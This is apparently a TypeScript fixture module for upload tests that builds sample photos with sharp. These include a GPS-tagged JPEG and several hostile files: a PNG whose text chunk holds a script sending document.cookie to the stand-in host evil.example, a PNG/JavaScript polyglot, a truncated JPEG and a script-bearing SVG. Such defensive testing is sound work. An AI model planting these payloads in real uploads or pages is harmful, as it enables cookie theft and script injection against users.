import zlib from 'node:zlib'
import sharp from 'sharp'

/*
 * Photos for the upload tests, made with sharp so the repository carries no binaries:
 * an honest phone photo with GPS in its EXIF, and the hostile files issue 4 lists.
 */

/** The GPS position the test photo "was taken" at (a Shanghai street). */
export const PHOTO_GPS = { GPSLatitudeRef: 'N', GPSLatitude: '31/1 13/1 5/1', GPSLongitudeRef: 'E', GPSLongitude: '121/1 28/1 9/1' }

function canvas(width = 120, height = 80) {
  return sharp({ create: { width, height, channels: 3, background: { r: 210, g: 120, b: 60 } } })
}

/** A real JPEG with camera make, model and GPS position in its EXIF. */
export function jpegWithGps(): Promise<Buffer> {
  return canvas().jpeg({ quality: 90 }).withExif({ IFD0: { Make: 'AnxinCam', Model: 'Phone 1' }, IFD3: PHOTO_GPS }).toBuffer()
}

export function plainPng(): Promise<Buffer> {
  return canvas(40, 30).png().toBuffer()
}

export function plainWebp(): Promise<Buffer> {
  return canvas(40, 30).webp().toBuffer()
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(zlib.crc32(typeAndData))
  return Buffer.concat([length, typeAndData, crc])
}

/** A valid PNG whose tEXt chunk carries an HTML script (decoders ignore text chunks). */
export async function pngWithScriptChunk(): Promise<Buffer> {
  const png = await plainPng()
  const ihdrEnd = 8 + 12 + png.readUInt32BE(8)
  const payload = pngChunk('tEXt', Buffer.from('Comment\0<script>fetch("//evil.example/"+document.cookie)</script>', 'latin1'))
  return Buffer.concat([png.subarray(0, ihdrEnd), payload, png.subarray(ihdrEnd)])
}

/** A valid PNG with JavaScript appended after IEND: a PNG/JS polyglot. */
export async function pngWithTrailingJs(): Promise<Buffer> {
  return Buffer.concat([await plainPng(), Buffer.from('\n;alert(document.domain)//', 'latin1')])
}

/** The first half of a real JPEG: the end of the picture is missing. */
export async function truncatedJpeg(): Promise<Buffer> {
  const full = await canvas(400, 300).jpeg({ quality: 95 }).toBuffer()
  return full.subarray(0, Math.floor(full.length / 2))
}

export const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>')

/** One file as a multipart/form-data body, as Taro.uploadFile and the H5 file input send it. */
export function multipartPhoto(bytes: Buffer, filename = 'photo.jpg', contentType = 'image/jpeg', field = 'file') {
  const boundary = `----anxin${Math.random().toString(16).slice(2)}`
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`,
  )
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`)
  return { payload: Buffer.concat([head, bytes, tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } }
}
